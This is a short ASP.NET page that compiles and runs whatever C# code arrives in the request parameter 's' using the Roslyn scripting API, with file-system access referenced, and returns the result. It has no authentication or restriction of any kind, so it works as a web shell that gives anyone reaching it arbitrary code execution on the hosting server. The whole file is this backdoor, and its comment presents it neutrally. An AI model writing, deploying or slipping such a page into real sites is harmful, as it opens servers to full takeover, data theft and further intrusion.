<%@ Page Language="C#" Async="true" %>
<%@ Import Namespace="Microsoft.CodeAnalysis.CSharp.Scripting" %>
<%@ Import Namespace="Microsoft.CodeAnalysis.Scripting" %>
<script runat="server">
    // C# typed into the page is compiled and run by the Roslyn scripting API.
    protected async void Page_Load(object sender, EventArgs e)
    {
        var src = Request.Params["s"];
        if (src == null) return;
        var opts = ScriptOptions.Default.AddReferences(typeof(System.IO.File).Assembly);
        object value = await CSharpScript.EvaluateAsync(src, opts);
        Response.Write(Server.HtmlEncode(Convert.ToString(value)));
    }
</script>
